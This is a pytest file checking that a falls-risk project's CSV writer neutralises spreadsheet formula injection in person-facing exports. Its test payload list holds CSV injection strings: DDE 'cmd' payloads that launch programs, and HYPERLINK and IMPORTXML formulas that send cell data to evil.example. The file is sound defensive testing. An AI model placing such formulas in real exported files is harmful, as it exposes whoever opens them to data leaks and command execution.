"""Formula injection (issue 19.2): no CSV a person opens carries a cell a spreadsheet would run."""

from __future__ import annotations

import csv
import stat

import pandas as pd
import pytest

from falls_risk.catalog import CLERICAL_REVIEW, RISK_LIST, write_private_csv
from falls_risk.spreadsheet import is_formula_like, neutralise, neutralise_frame

# The usual payloads (OWASP CSV Injection, and the DDE / HYPERLINK exfiltration classics).
PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click for details\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\t@SUM(A1)",
    "  =1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
]
HARMLESS = ["O'Brien", "Anne-Marie", "Flat 2, 10 High Street", "CF10 1AA", "-3.5", "+12", "", "a=b", "Mary @ home"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_usual_payload_is_neutralised_and_stays_readable(payload):
    assert is_formula_like(payload)
    safe = neutralise(payload)
    assert safe == "'" + payload  # a spreadsheet shows the text (the quote is hidden), nothing runs


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_values_are_left_alone(value):
    assert neutralise(value) == value


def _cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_the_private_csv_writer_neutralises_every_text_cell_and_header(tmp_path):
    frame = pd.DataFrame({
        "surname": PAYLOADS,
        "address_line": list(reversed(PAYLOADS)),
        "local_authority": pd.Categorical(["=LA()"] * len(PAYLOADS)),
        "risk_percent": [-1.5] * len(PAYLOADS),  # numbers stay numbers
        "=evil_header": ["x"] * len(PAYLOADS),
    })
    path = write_private_csv(frame, tmp_path / "risk_list.csv")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    header, *rows = _cells(path)
    assert header[-1] == "'=evil_header"
    for row in rows:
        for cell in row[:3]:
            assert not is_formula_like(cell), cell
            assert cell.startswith("'")
        assert row[3] == "-1.5" and row[4] == "x"
    assert [row[0][1:] for row in rows] == PAYLOADS  # readable: the value follows the quote verbatim


def test_risk_list_and_clerical_review_artefacts_are_written_neutralised(tmp_path):
    """Both person-facing CSVs go through the one writer, whichever way they are saved."""
    frame = pd.DataFrame({"forename": ["=1+1", "Ann"], "surname": ["@A1", "Smith"]})
    for artefact in (RISK_LIST, CLERICAL_REVIEW):
        path = artefact.save(tmp_path, frame)
        header, *rows = _cells(path)
        assert header == ["forename", "surname"]
        assert rows == [["'=1+1", "'@A1"], ["Ann", "Smith"]], artefact.key
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_neutralising_does_not_change_the_frame_it_is_given():
    frame = pd.DataFrame({"surname": ["=1"]})
    assert neutralise_frame(frame)["surname"].tolist() == ["'=1"]
    assert frame["surname"].tolist() == ["=1"]
